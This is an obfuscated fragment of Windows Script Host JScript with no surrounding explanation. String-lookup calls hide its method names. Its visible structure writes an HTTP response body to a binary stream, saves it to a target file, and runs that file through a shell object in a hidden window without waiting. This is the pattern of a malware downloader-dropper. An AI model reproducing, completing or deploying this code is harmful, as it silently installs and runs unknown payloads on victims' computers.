    stream39[a0_0x206b7f(0x178)](), stream39[a0_0x206b7f(0x194)] = 0x1, stream39[a0_0x206b7f(0x17d)](xhr39[a0_0x206b7f(0x1a8)]), stream39[a0_0x206b7f(0x131)] = 0x0, stream39[a0_0x206b7f(0x167)](target39, 0x2), stream39[a0_0x206b7f(0x197)](), shell39[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target39 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));